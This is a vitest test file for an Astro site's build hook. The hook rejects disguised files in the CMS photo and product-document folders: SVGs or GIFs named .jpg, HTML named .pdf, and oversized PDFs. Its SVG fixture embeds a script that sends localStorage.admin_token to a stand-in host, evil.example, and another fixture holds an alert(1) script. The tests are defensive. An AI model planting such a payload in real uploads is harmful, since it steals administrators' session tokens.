/**
 * The build's check of the photo folders: a `.jpg` that is an SVG or a GIF, in the CMS's media folder or
 * beside the news or the products, stops `astro build` naming the file; real photos pass.
 */
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import sharp from 'sharp';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { documentProblems, mediaCheck, mediaProblems } from '../../src/features/cms/media-check';
import { DOCUMENT_MAX_BYTES } from '../../src/features/catalogue/documents';
import { PHOTO_FOLDERS } from '../../src/features/cms/folders';

let root = '';
const photo = (format: 'jpeg' | 'png' | 'gif') => sharp({ create: { width: 8, height: 6, channels: 3, background: '#3a7bd5' } }).toFormat(format).toBuffer();
const SVG = '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("https://evil.example/?" + localStorage.admin_token)</script></svg>';

/** Runs the integration's hook as `astro build` (or `astro dev`) does. */
function runHook(command: 'build' | 'dev'): void {
  const hook = mediaCheck().hooks['astro:config:setup'] as unknown as (options: { command: string; config: { root: URL } }) => void;
  hook({ command, config: { root: pathToFileURL(`${root}/`) } });
}

async function put(file: string, content: Buffer | string): Promise<void> {
  await mkdir(join(root, file, '..'), { recursive: true });
  await writeFile(join(root, file), content);
}

beforeEach(async () => {
  root = await mkdtemp(join(tmpdir(), 'media-check-'));
  await put('public/images/uploads/stand.jpg', await photo('jpeg'));
  await put('content/news/images/IMG_2041.png', await photo('png'));
  await put('content/catalogue/products/images/tc22.jpeg', await photo('jpeg'));
});

afterEach(async () => {
  await rm(root, { recursive: true, force: true });
});

describe('the photo folders, checked by the build', () => {
  test('the folders are the CMS’s media folder and the news’ and products’ photo folders', () => {
    expect([...PHOTO_FOLDERS]).toEqual(['public/images/uploads', 'content/news/images', 'content/catalogue/products/images']);
  });

  test('real photos pass, and the build goes on', () => {
    expect(mediaProblems(root)).toEqual([]);
    expect(() => runHook('build')).not.toThrow();
  });

  test('an SVG or a GIF named .jpg stops the build, each file named with what it really is', async () => {
    await put('public/images/uploads/photo.jpg', SVG);
    await put('content/news/images/anime.jpg', await photo('gif'));
    await put('content/catalogue/products/images/sous-dossier/dessin.svg', SVG);
    expect(mediaProblems(root).sort()).toEqual([
      'content/catalogue/products/images/sous-dossier/dessin.svg : l’image dessin.svg est refusée : seules les photos JPEG, PNG ou WebP sont acceptées (format reçu : SVG)',
      'content/news/images/anime.jpg : l’image anime.jpg est refusée : son contenu n’est pas une photo JPEG (format reçu : GIF)',
      'public/images/uploads/photo.jpg : l’image photo.jpg est refusée : son contenu n’est pas une photo JPEG (format reçu : SVG)',
    ]);
    expect(() => runHook('build')).toThrow(/Fichiers refusés dans les dossiers de photos et de documents :\n {2}- .*public\/images\/uploads\/photo\.jpg : .*format reçu : SVG/s);
    // The dev server starts anyway: the editor fixes the file there.
    expect(() => runHook('dev')).not.toThrow();
  });
});

describe('the product documents’ folder, checked by the build', () => {
  const PDF = '%PDF-1.7\n%âãÏÓ\n1 0 obj << >> endobj\n%%EOF\n';

  test('a real PDF passes, and the build goes on', async () => {
    await put('public/documents/produits/notice.pdf', PDF);
    expect(documentProblems(root)).toEqual([]);
    expect(() => runHook('build')).not.toThrow();
  });

  test('an HTML page named .pdf, another kind of file, or a PDF over the limit stops the build, each named', async () => {
    await put('public/documents/produits/piege.pdf', '<html><script>alert(1)</script></html>');
    await put('public/documents/produits/photo.jpg', await photo('jpeg'));
    await put('public/documents/produits/lourd.pdf', Buffer.concat([Buffer.from(PDF), Buffer.alloc(DOCUMENT_MAX_BYTES)]));
    expect(documentProblems(root).sort()).toEqual([
      'public/documents/produits/lourd.pdf : le document lourd.pdf est refusé : il pèse 10,1 Mo, au plus 10 Mo sont acceptés',
      'public/documents/produits/photo.jpg : le document photo.jpg est refusé : seuls les fichiers PDF (.pdf) sont acceptés',
      'public/documents/produits/piege.pdf : le document piege.pdf est refusé : son contenu n’est pas un PDF (format reçu : HTML)',
    ]);
    expect(() => runHook('build')).toThrow(/public\/documents\/produits\/piege\.pdf : .*format reçu : HTML/s);
  });
});
